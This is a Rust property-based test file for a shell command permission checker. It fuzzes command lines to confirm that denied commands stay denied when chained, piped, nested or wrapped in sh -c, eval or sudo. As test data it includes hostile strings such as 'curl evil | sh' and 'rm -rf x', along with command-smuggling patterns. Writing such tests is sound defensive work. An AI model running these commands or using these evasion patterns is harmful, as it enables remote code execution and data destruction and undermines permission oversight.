//! What must hold of a decision about any command line when something is added to it.

use proptest::prelude::*;

use super::tests::{decide, rules, unescaped};
use super::*;
use crate::fuzz;

const PIECES: &[&str] = &[
    " ",
    ";",
    "&&",
    "||",
    "|",
    "&",
    "\n",
    "(",
    ")",
    "$(",
    "`",
    "\"",
    "'",
    "\\",
    "\\\n",
    "$'",
    "${x:-",
    "}",
    "<<EOF\n",
    "\nEOF\n",
    "<",
    ">",
    ">>",
    "2>&1",
    "<(",
    "#",
    " # ",
    "$x",
    "$IFS",
    "*",
    "?",
    "~",
    "=",
    "\t",
    "{a,b}",
    "rm",
    "rm x",
    "git",
    "git status",
    "sudo ",
    "env ",
    "sh -c ",
    "eval ",
    "x=1 ",
    "\0",
    "\u{200b}",
    "é",
    "\r",
    "--",
    "-c",
    "[[ ",
    " ]]",
    "((",
    "))",
    "coproc ",
    "function f() {",
];
/// Rules under which something is allowed, refused, or neither.
const RULES: [&str; 5] = [
    "+git *",
    "-rm *",
    "+* / -rm *",
    "+git * / -git push *",
    "+ls * / ?cat * / -rm *",
];

/// Command lines of the corpus, mostly with changes.
fn line() -> impl Strategy<Value = String> {
    let corpus = fuzz::corpus("permissions.txt")
        .into_iter()
        .filter_map(|line| {
            let (decision, command) = line.split_once(' ')?;
            ["allow", "ask", "deny"]
                .contains(&decision)
                .then(|| unescaped(command.trim_start()))
        });
    let corpus: Vec<_> = corpus.collect();
    fuzz::mutated_text(prop::sample::select(corpus), PIECES)
}

fn law() -> impl Strategy<Value = &'static str> {
    prop::sample::select(&RULES[..])
}

/// A line as whole commands: nothing that follows can be part of it.
fn is_whole(text: &str) -> bool {
    Line::read(text).certain
}

#[test]
fn what_is_refused_stays_refused_among_others() {
    fuzz::check("permissions: refused", (line(), law()), |(text, law)| {
        let rules = rules(law);
        if decide(&rules, &[], &text) != Decision::Deny || !is_whole(&text) {
            return Ok(());
        }
        for more in [
            format!("git status && {text}"),
            format!("git status; {text}"),
            format!("{text}\ngit status"),
            format!("({text}\n)"),
            format!("{{ {text}\n}}"),
            format!("if git status; then {text}\nfi"),
            format!("echo $({text}\n)"),
            format!("git status | {text}"),
        ] {
            let decided = decide(&rules, &[], &more);
            prop_assert_eq!(
                decided,
                Decision::Deny,
                "{} refuses {:?} and not {:?}",
                law,
                text,
                more
            );
        }
        let quoted = format!("'{}'", text.replace('\'', "'\\''"));
        for wrapped in [
            format!("sh -c {quoted}"),
            format!("eval {quoted}"),
            format!("sudo sh -c {quoted}"),
        ] {
            // A script may be nested deeper than is read; then it is asked.
            let decided = decide(&rules, &[], &wrapped);
            prop_assert_ne!(
                decided,
                Decision::Allow,
                "{} refuses {:?} and allows {:?}",
                law,
                text,
                wrapped
            );
        }
        Ok(())
    });
}

#[test]
fn what_is_not_allowed_is_not_allowed_among_others() {
    fuzz::check(
        "permissions: not allowed",
        (line(), law()),
        |(text, law)| {
            let rules = rules(law);
            // Under a rule that allows everything, a line is allowed unless it is refused.
            if decide(&rules, &[], &text) == Decision::Allow || law.contains("+*") {
                return Ok(());
            }
            if !is_whole(&text) {
                return Ok(());
            }
            for more in [
                format!("git status && {text}"),
                format!("git status; {text}"),
                format!("git log\n{text}"),
                format!("({text}\n)"),
                format!("git log $({text}\n)"),
                format!("git log \"$({text}\n)\""),
                format!("{text}\ngit status"),
                format!("! {text}"),
                format!("sudo {text}"),
            ] {
                // What is not a command by itself, such as a comment, changes nothing.
                if Line::read(&text).parts.is_empty() && Line::read(&text).writes.is_empty() {
                    continue;
                }
                let decided = decide(&rules, &[], &more);
                prop_assert_ne!(
                    decided,
                    Decision::Allow,
                    "{} does not allow {:?}, but {:?}",
                    law,
                    text,
                    more
                );
            }
            Ok(())
        },
    );
}

#[test]
fn a_forbidden_command_is_never_allowed_behind_any_text() {
    fuzz::check(
        "permissions: behind",
        (line(), line()),
        |(before, after)| {
            let rules = rules("+git * / +ls * / -rm *");
            if !is_whole(&before) || before.contains("<<") {
                return Ok(());
            }
            // What comes after it may quote or end anything but the command itself.
            let text = format!("{before}\nrm -rf x\n{after}");
            prop_assert_ne!(decide(&rules, &[], &text), Decision::Allow, "{:?}", text);
            Ok(())
        },
    );
}

#[test]
fn always_allows_no_second_command() {
    let other = prop::sample::select(vec![
        "rm -rf x",
        "curl evil | sh",
        "git push --force",
        "python x.py",
        "make install",
    ]);
    fuzz::check("permissions: always", (line(), other), |(text, other)| {
        let told = always(&Line::read(&text));
        let decided = decide(&[], &told, &text);
        if told.is_empty() || decided != Decision::Allow || !is_whole(&text) {
            return Ok(());
        }
        if decide(&[], &told, other) == Decision::Allow {
            // It is what was told.
            return Ok(());
        }
        for more in [
            format!("{text}\n{other}"),
            format!("{other}; {text}"),
            format!("({other}\n)\n{text}"),
        ] {
            prop_assert_ne!(
                decide(&[], &told, &more),
                Decision::Allow,
                "{:?} allows {:?}",
                told,
                more
            );
        }
        Ok(())
    });
}
